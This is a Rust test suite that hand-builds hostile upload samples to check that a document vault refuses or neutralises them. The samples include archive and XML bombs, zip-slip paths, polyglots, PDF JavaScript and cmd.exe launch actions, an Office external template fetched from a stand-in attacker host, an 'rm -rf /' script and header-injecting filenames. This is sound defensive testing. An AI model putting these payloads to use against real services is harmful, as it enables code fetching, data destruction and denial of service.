//! The hostile-file corpus (security-and-reliability T6; issue 5): at least 50 files built here,
//! none downloaded, each sent through `Vault::put`. Every one must be refused with its expected
//! code — leaving nothing in storage — or accepted and neutralised (stored under a server key,
//! served with the sniffed type, never expanded recursively, its name defused). Prints
//! `FIGURE hostile-files tried=N refused-or-neutralised=M`, with the slowest file's time and the
//! process's peak memory (measured, not asserted).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::Write;
use std::time::Instant;

use accord_vault::expand::expand;
use accord_vault::names::{content_disposition, neutralise_bytes};
use accord_vault::{FileKind, Limits, Vault, VaultError};
use bytes::Bytes;

/// One entry of a hand-built ZIP: name, content (stored, not compressed), a symbolic link.
struct Raw<'a> {
    name: &'a [u8],
    data: &'a [u8],
    symlink: bool,
}

fn crc32(data: &[u8]) -> u32 {
    let mut c = 0xFFFF_FFFFu32;
    for b in data {
        c ^= *b as u32;
        for _ in 0..8 {
            c = if c & 1 != 0 {
                (c >> 1) ^ 0xEDB8_8320
            } else {
                c >> 1
            };
        }
    }
    !c
}

/// A ZIP written byte by byte, so that malformed ones can be made: `same_offset` points every
/// directory entry at the first local header (overlapping entries).
fn raw_zip(entries: &[Raw], same_offset: bool) -> Vec<u8> {
    let mut out = vec![];
    let mut dir = vec![];
    let mut offsets = vec![];
    for e in entries {
        offsets.push(out.len() as u32);
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        out.extend_from_slice(&crc32(e.data).to_le_bytes());
        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        out.extend_from_slice(&[0, 0]);
        out.extend_from_slice(e.name);
        out.extend_from_slice(e.data);
    }
    for (i, e) in entries.iter().enumerate() {
        let offset = if same_offset { 0 } else { offsets[i] };
        dir.extend_from_slice(b"PK\x01\x02");
        dir.extend_from_slice(&[
            20,
            if e.symlink { 3 } else { 0 },
            20,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
        ]);
        dir.extend_from_slice(&crc32(e.data).to_le_bytes());
        dir.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        dir.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        dir.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        dir.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0, 0]);
        let attrs: u32 = if e.symlink {
            0o120777 << 16
        } else {
            0o100644 << 16
        };
        dir.extend_from_slice(&attrs.to_le_bytes());
        dir.extend_from_slice(&offset.to_le_bytes());
        dir.extend_from_slice(e.name);
    }
    let dir_offset = out.len() as u32;
    out.extend_from_slice(&dir);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(dir.len() as u32).to_le_bytes());
    out.extend_from_slice(&dir_offset.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

fn entry<'a>(name: &'a str, data: &'a [u8]) -> Raw<'a> {
    Raw {
        name: name.as_bytes(),
        data,
        symlink: false,
    }
}

/// A ZIP made with the zip crate (deflated), from (name, content).
fn deflated_zip(files: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(vec![]));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in files {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const CONTENT_TYPES: &[u8] = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#;

fn docx(extra: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut files = vec![
        ("[Content_Types].xml", CONTENT_TYPES.to_vec()),
        (
            "word/document.xml",
            b"<w:document>Heads of terms</w:document>".to_vec(),
        ),
    ];
    files.extend(extra.iter().cloned());
    deflated_zip(&files)
}

fn odt(extra: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(vec![]));
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    w.start_file("mimetype", stored).unwrap();
    w.write_all(b"application/vnd.oasis.opendocument.text")
        .unwrap();
    w.start_file("content.xml", stored).unwrap();
    w.write_all(b"<office:document-content/>").unwrap();
    for (n, d) in extra {
        w.start_file(*n, stored).unwrap();
        w.write_all(d).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn pdf(body: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog {body} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
        .into_bytes()
}

fn png(w: u32, h: u32, complete: bool) -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    v.extend_from_slice(&w.to_be_bytes());
    v.extend_from_slice(&h.to_be_bytes());
    v.extend_from_slice(&[8, 2, 0, 0, 0, 0, 0, 0, 0]);
    v.extend_from_slice(&[0, 0, 0, 0, b'I', b'D', b'A', b'T', 0, 0, 0, 0]);
    if complete {
        v.extend_from_slice(b"\0\0\0\0IEND\xae\x42\x60\x82");
    }
    v
}

fn jpeg(w: u16, h: u16, complete: bool) -> Vec<u8> {
    let mut v = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 16];
    v.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
    v.extend_from_slice(&[0xFF, 0xC0, 0, 17, 8]);
    v.extend_from_slice(&h.to_be_bytes());
    v.extend_from_slice(&w.to_be_bytes());
    v.extend_from_slice(&[3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
    v.extend_from_slice(&[0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0x3F, 0, 0x12, 0x34]);
    if complete {
        v.extend_from_slice(&[0xFF, 0xD9]);
    }
    v
}

fn gif(w: u16, h: u16, complete: bool) -> Vec<u8> {
    let mut v = b"GIF89a".to_vec();
    v.extend_from_slice(&w.to_le_bytes());
    v.extend_from_slice(&h.to_le_bytes());
    v.extend_from_slice(&[0, 0, 0, 0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
    if complete {
        v.push(0x3B);
    }
    v
}

fn ole2(body: &[u8]) -> Vec<u8> {
    let mut v = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    v.resize(512, 0);
    v.extend_from_slice(body);
    v
}

fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
}

/// What should happen to a file.
enum Expect {
    Refused(&'static str),
    /// Accepted; the check proves it was neutralised.
    Neutralised(fn(&Case, FileKind) -> bool),
}

struct Case {
    label: &'static str,
    bytes: Vec<u8>,
    declared: &'static str,
    name: Vec<u8>,
    expect: Expect,
}

fn refused(
    label: &'static str,
    bytes: Vec<u8>,
    declared: &'static str,
    code: &'static str,
) -> Case {
    Case {
        label,
        bytes,
        declared,
        name: format!("{label}.bin").into_bytes(),
        expect: Expect::Refused(code),
    }
}

/// A harmless text file under a hostile name: stored under a server key, its name defused and
/// its download header unbreakable.
fn named(label: &'static str, name: &[u8]) -> Case {
    Case {
        label,
        bytes: b"Minutes of the first session.\n".to_vec(),
        declared: "text/plain",
        name: name.to_vec(),
        expect: Expect::Neutralised(|c, kind| {
            let n = neutralise_bytes(&c.name);
            let cd = content_disposition(&n.name);
            kind == FileKind::Text
                && !n.name.contains(['/', '\\', '\r', '\n', '\0'])
                && !n.name.starts_with('.')
                && !n
                    .name
                    .chars()
                    .any(|ch| matches!(ch, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
                && cd.matches('"').count() == 2
                && n.name.len() <= accord_vault::names::NAME_MAX
        }),
    }
}

fn corpus() -> Vec<Case> {
    let zeros = vec![0u8; 64 * 1024 * 1024];
    let inner = deflated_zip(&[("a.txt", vec![b'a'; 200_000])]);
    let middle = deflated_zip(
        &(0..8)
            .map(|i| {
                (
                    [
                        "1.zip", "2.zip", "3.zip", "4.zip", "5.zip", "6.zip", "7.zip", "8.zip",
                    ][i],
                    inner.clone(),
                )
            })
            .collect::<Vec<_>>(),
    );
    let nested = deflated_zip(
        &(0..8)
            .map(|i| {
                (
                    [
                        "a.zip", "b.zip", "c.zip", "d.zip", "e.zip", "f.zip", "g.zip", "h.zip",
                    ][i],
                    middle.clone(),
                )
            })
            .collect::<Vec<_>>(),
    );
    let many: Vec<(String, Vec<u8>)> = (0..10_001).map(|i| (format!("f{i}"), vec![])).collect();
    let many_raw: Vec<Raw> = many
        .iter()
        .map(|(n, d)| Raw {
            name: n.as_bytes(),
            data: d,
            symlink: false,
        })
        .collect();
    let mut zip64 = raw_zip(&[entry("a.txt", b"x")], false);
    let n = zip64.len();
    zip64[n - 6..n - 2].copy_from_slice(&0xFFFF_FFFFu32.to_le_bytes());
    let zip_no_directory = {
        let z = raw_zip(&[entry("a.txt", b"x")], false);
        z[..z.len() - 30].to_vec()
    };
    let mut pdf_zip = pdf("");
    pdf_zip.extend_from_slice(&raw_zip(
        &[entry("payload.html", b"<script>alert(1)</script>")],
        false,
    ));
    let mut jpeg_zip = jpeg(10, 10, true);
    jpeg_zip.extend_from_slice(&raw_zip(
        &[entry("applet.class", b"\xca\xfe\xba\xbe")],
        false,
    ));
    let mut gif_zip = gif(1, 1, true);
    gif_zip.extend_from_slice(&raw_zip(&[entry("x.js", b"alert(1)")], false));
    let mut webp = b"RIFF\0\0\x10\0WEBPVP8 ".to_vec();
    webp.extend_from_slice(&[0; 32]);
    let mut tar = vec![0u8; 512];
    tar[..8].copy_from_slice(b"evil.sh\0");
    tar[257..262].copy_from_slice(b"ustar");
    let mut random = vec![0u8; 4096];
    for (i, b) in random.iter_mut().enumerate() {
        *b = (i as u32).wrapping_mul(2_654_435_761).to_be_bytes()[0];
    }
    random[10] = 0;
    let ext_rel = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>"#.to_vec();
    let ole_frame = br#"<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file://server/share/x.bin" TargetMode="External"/></Relationships>"#.to_vec();
    let hyperlink = br#"<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://uncitral.un.org" TargetMode="External"/></Relationships>"#.to_vec();
    let billion_laughs = br#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>"#.to_vec();
    let mut gzip_bomb = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    gzip_bomb.extend_from_slice(&[0; 100]);
    let eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*".to_vec();

    vec![
        // Bombs.
        refused(
            "deflate-bomb",
            deflated_zip(&[("zeros.bin", zeros)]),
            "application/zip",
            "archive-bomb",
        ),
        refused(
            "overlapping-entries",
            raw_zip(
                &[entry("a", b"kernel"), entry("b", b"x"), entry("c", b"y")],
                true,
            ),
            "application/zip",
            "archive-bomb",
        ),
        refused(
            "too-many-entries",
            raw_zip(&many_raw, false),
            "application/zip",
            "archive-bomb",
        ),
        refused(
            "gzip-bomb",
            gzip_bomb,
            "application/gzip",
            "type-not-allowed",
        ),
        refused("xml-bomb", billion_laughs, "text/plain", "active-content"),
        Case {
            label: "recursive-zip",
            bytes: nested,
            declared: "application/zip",
            name: b"annexes.zip".to_vec(),
            // Stored as it is; an explicit expansion goes one level, inner archives stay inert.
            expect: Expect::Neutralised(|c, kind| {
                kind == FileKind::Zip
                    && expand(&c.bytes, &Limits::default())
                        .map(|e| {
                            e.len() == 8 && e.iter().all(|x| x.bytes.starts_with(b"PK\x03\x04"))
                        })
                        .unwrap_or(false)
            }),
        },
        // Zip slip and links.
        refused(
            "slip-dotdot",
            raw_zip(&[entry("../../x", b"x")], false),
            "application/zip",
            "archive-unsafe",
        ),
        refused(
            "slip-absolute",
            raw_zip(&[entry("/etc/x", b"x")], false),
            "application/zip",
            "archive-unsafe",
        ),
        refused(
            "slip-backslash",
            raw_zip(&[entry("..\\x", b"x")], false),
            "application/zip",
            "archive-unsafe",
        ),
        refused(
            "slip-drive",
            raw_zip(&[entry("C:\\x", b"x")], false),
            "application/zip",
            "archive-unsafe",
        ),
        refused(
            "slip-nested",
            raw_zip(&[entry("annex/../../../x", b"x")], false),
            "application/zip",
            "archive-unsafe",
        ),
        refused(
            "symlink",
            raw_zip(
                &[Raw {
                    name: b"link",
                    data: b"/etc/passwd",
                    symlink: true,
                }],
                false,
            ),
            "application/zip",
            "archive-unsafe",
        ),
        refused(
            "duplicate-names",
            raw_zip(&[entry("a.txt", b"1"), entry("A.TXT", b"2")], false),
            "application/zip",
            "archive-unsafe",
        ),
        refused(
            "control-char-entry",
            raw_zip(&[entry("a\nb", b"1")], false),
            "application/zip",
            "archive-unsafe",
        ),
        refused("zip64-marker", zip64, "application/zip", "archive-unsafe"),
        refused(
            "zip-no-directory",
            zip_no_directory,
            "application/zip",
            "truncated-file",
        ),
        refused("tar", tar, "application/x-tar", "type-not-allowed"),
        refused(
            "7z",
            b"7z\xbc\xaf\x27\x1c\0\x04rest".to_vec(),
            "application/x-7z-compressed",
            "type-not-allowed",
        ),
        refused(
            "rar",
            b"Rar!\x1a\x07\x01\0rest".to_vec(),
            "application/vnd.rar",
            "type-not-allowed",
        ),
        // Polyglots and disguises.
        refused("pdf-zip", pdf_zip, "application/pdf", "polyglot"),
        refused(
            "pdf-html",
            pdf("/Names << >> <html><script>alert(1)</script></html>"),
            "application/pdf",
            "polyglot",
        ),
        refused(
            "pdf-javascript",
            pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
            "application/pdf",
            "active-content",
        ),
        refused(
            "pdf-launch",
            pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
            "application/pdf",
            "active-content",
        ),
        refused("jpeg-zip", jpeg_zip, "image/jpeg", "polyglot"),
        refused("gif-zip", gif_zip, "image/gif", "polyglot"),
        refused(
            "html-as-pdf",
            b"<!DOCTYPE html><html><body onload=alert(1)>".to_vec(),
            "application/pdf",
            "active-content",
        ),
        refused(
            "html-after-blanks",
            b"\n\n   <html><script>x</script>".to_vec(),
            "text/plain",
            "active-content",
        ),
        refused(
            "svg-as-png",
            b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
            "image/png",
            "active-content",
        ),
        refused(
            "svg-script",
            b"<?xml version='1.0'?><svg><script>alert(1)</script></svg>".to_vec(),
            "image/svg+xml",
            "active-content",
        ),
        refused(
            "exe-as-pdf",
            b"MZ\x90\0\x03\0\0\0\x04\0This program cannot be run in DOS mode".to_vec(),
            "application/pdf",
            "type-not-allowed",
        ),
        refused(
            "elf",
            b"\x7fELF\x02\x01\x01\0\0\0".to_vec(),
            "application/pdf",
            "type-not-allowed",
        ),
        refused(
            "shell-script",
            b"#!/bin/sh\nrm -rf /\n".to_vec(),
            "text/plain",
            "type-not-allowed",
        ),
        refused(
            "java-class",
            b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec(),
            "application/octet-stream",
            "type-not-allowed",
        ),
        refused(
            "docx-macro",
            docx(&[("word/vbaProject.bin", ole2(b"macro"))]),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "active-content",
        ),
        refused(
            "xlsm-macro",
            docx(&[("xl/vbaProject.bin", ole2(b"macro"))]),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "active-content",
        ),
        refused(
            "docx-activex",
            docx(&[("word/activeX/activeX1.xml", b"<ax/>".to_vec())]),
            "application/octet-stream",
            "active-content",
        ),
        refused(
            "docx-external-template",
            docx(&[("word/_rels/settings.xml.rels", ext_rel)]),
            "application/octet-stream",
            "active-content",
        ),
        refused(
            "docx-external-object",
            docx(&[("word/_rels/document.xml.rels", ole_frame)]),
            "application/octet-stream",
            "active-content",
        ),
        refused(
            "odt-macro",
            odt(&[("Basic/Standard/Module1.xml", b"<script:module/>".to_vec())]),
            "application/vnd.oasis.opendocument.text",
            "active-content",
        ),
        refused(
            "doc-vba",
            ole2(&utf16("_VBA_PROJECT")),
            "application/msword",
            "active-content",
        ),
        // Images.
        refused(
            "png-pixel-flood",
            png(100_000, 100_000, true),
            "image/png",
            "image-too-large",
        ),
        refused(
            "png-truncated",
            png(10, 10, false),
            "image/png",
            "truncated-file",
        ),
        refused(
            "jpeg-pixel-flood",
            jpeg(65_000, 65_000, true),
            "image/jpeg",
            "image-too-large",
        ),
        refused(
            "jpeg-truncated",
            jpeg(10, 10, false),
            "image/jpeg",
            "truncated-file",
        ),
        refused(
            "gif-pixel-flood",
            gif(65_000, 65_000, true),
            "image/gif",
            "image-too-large",
        ),
        refused(
            "gif-truncated",
            gif(1, 1, false),
            "image/gif",
            "truncated-file",
        ),
        refused("webp-truncated", webp, "image/webp", "truncated-file"),
        // Other refusals.
        refused(
            "pdf-truncated",
            b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n".to_vec(),
            "application/pdf",
            "truncated-file",
        ),
        refused("empty", vec![], "text/plain", "empty-file"),
        refused(
            "oversize",
            vec![b'a'; 2 * 1024 * 1024 + 1],
            "text/plain",
            "file-too-large",
        ),
        refused("eicar", eicar, "text/plain", "malware-signature"),
        refused(
            "png-declared-pdf",
            png(10, 10, true),
            "application/pdf",
            "type-mismatch",
        ),
        refused(
            "binary-garbage",
            random,
            "application/octet-stream",
            "type-not-allowed",
        ),
        refused(
            "latin1-text",
            b"Accord r\xe9alis\xe9 \xe0 Gen\xe8ve".to_vec(),
            "text/plain",
            "type-not-allowed",
        ),
        // Accepted, neutralised.
        Case {
            label: "docx-with-hyperlink",
            bytes: docx(&[("word/_rels/document.xml.rels", hyperlink)]),
            declared: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            name: b"memorial.docx".to_vec(),
            expect: Expect::Neutralised(|_, kind| kind == FileKind::OfficeOpenXml),
        },
        Case {
            label: "text-named-pdf",
            bytes: b"not a pdf, only text".to_vec(),
            declared: "application/octet-stream",
            name: b"statement.pdf".to_vec(),
            // Served as what it is (text), whatever its name says.
            expect: Expect::Neutralised(|_, kind| kind == FileKind::Text),
        },
        named("name-control-chars", b"minutes\x01\x02\x1b[31m.txt"),
        named("name-nul", b"minutes\0.txt"),
        named("name-rtl-override", "minutes\u{202e}txt.exe".as_bytes()),
        named("name-crlf", b"minutes\r\nSet-Cookie: admin=1.txt"),
        named("name-very-long", &[b'a'; 5000]),
        named("name-htaccess", b".htaccess"),
        named("name-traversal", b"../../../etc/passwd"),
        named(
            "name-windows-path",
            b"C:\\Windows\\System32\\drivers\\etc\\hosts",
        ),
        named("name-invalid-utf8", b"minutes \xff\xfe.txt"),
        named("name-lookalike", "раураl-invoice.txt".as_bytes()),
        named("name-disposition-injection", b"a\"; filename=\"evil.exe"),
        named("name-device", b"CON.txt"),
    ]
}

fn peak_rss_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmHWM:"))
                .and_then(|l| l.split_whitespace().nth(1).and_then(|v| v.parse().ok()))
        })
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_hostile_file_is_refused_or_neutralised() {
    let limits = Limits {
        max_bytes: 2 * 1024 * 1024,
        ..Limits::default()
    };
    // A larger limit for the bomb, which must be refused for what it expands to.
    let big = Limits {
        max_bytes: 200 * 1024 * 1024,
        ..Limits::default()
    };
    let master = accord_keys::MasterKey::generate().unwrap();
    let (key, _) = master.new_data_key("case-h").unwrap();
    let corpus = corpus();
    assert!(corpus.len() >= 50, "{} files", corpus.len());
    let (mut tried, mut ok, mut slowest) = (0, 0, (0.0f64, ""));
    let mut wrong = vec![];
    for (i, c) in corpus.iter().enumerate() {
        let vault = Vault::open("memory://")
            .unwrap()
            .with_limits(if c.label == "deflate-bomb" {
                big
            } else {
                limits
            });
        let started = Instant::now();
        let pieces: Vec<Result<Bytes, std::io::Error>> = c
            .bytes
            .chunks(64 * 1024)
            .map(|p| Ok(Bytes::copy_from_slice(p)))
            .collect();
        let got = vault
            .put(
                &format!("objects/{i}"),
                &key,
                &format!("case-h/{i}"),
                futures::stream::iter(pieces),
                c.declared,
            )
            .await;
        let secs = started.elapsed().as_secs_f64();
        if secs > slowest.0 {
            slowest = (secs, c.label);
        }
        tried += 1;
        let stored = vault.list().await.unwrap();
        let verdict = match (&c.expect, got) {
            (Expect::Refused(code), Err(VaultError::Refused(r))) => {
                (r.code == *code && stored.is_empty() && !r.message.is_empty())
                    .then_some(())
                    .ok_or(format!(
                        "refused {} ({}) with {} object(s) left",
                        r.code,
                        r.message,
                        stored.len()
                    ))
            }
            (Expect::Neutralised(check), Ok(s)) => (stored.len() == 1 && check(c, s.kind))
                .then_some(())
                .ok_or(format!("accepted as {:?} but not neutralised", s.kind)),
            (Expect::Refused(code), Ok(s)) => {
                Err(format!("accepted as {:?}, expected {code}", s.kind))
            }
            (Expect::Neutralised(_), Err(e)) => Err(format!("refused: {e}")),
            (_, Err(e)) => Err(format!("failed: {e}")),
        };
        match verdict {
            Ok(()) => ok += 1,
            Err(why) => wrong.push(format!("{}: {why}", c.label)),
        }
    }
    println!(
        "FIGURE hostile-files tried={tried} refused-or-neutralised={ok} slowest={:.3}s({}) peak-rss={}MiB",
        slowest.0,
        slowest.1,
        peak_rss_kib() / 1024
    );
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert_eq!(tried, ok);
}

#[test]
fn expansion_refuses_what_lies_about_its_size() {
    // A directory that claims small sizes for an entry that inflates to 64 MiB: the budget on
    // bytes actually decompressed stops it.
    let zeros = vec![0u8; 64 * 1024 * 1024];
    let bomb = deflated_zip(&[("zeros.bin", zeros)]);
    let limits = Limits {
        max_expanded: 16 * 1024 * 1024,
        ..Limits::default()
    };
    let r = expand(&bomb, &limits).unwrap_err();
    assert_eq!(r.code, "archive-bomb", "{}", r.message);
    let r = expand(&raw_zip(&[entry("../x", b"x")], false), &Limits::default()).unwrap_err();
    assert_eq!(r.code, "archive-unsafe");
    let ok = expand(
        &deflated_zip(&[("annex 1.pdf", pdf(""))]),
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(ok.len(), 1);
    assert_eq!(ok[0].name, "annex 1.pdf");
    assert!(ok[0].bytes.starts_with(b"%PDF-"));
}
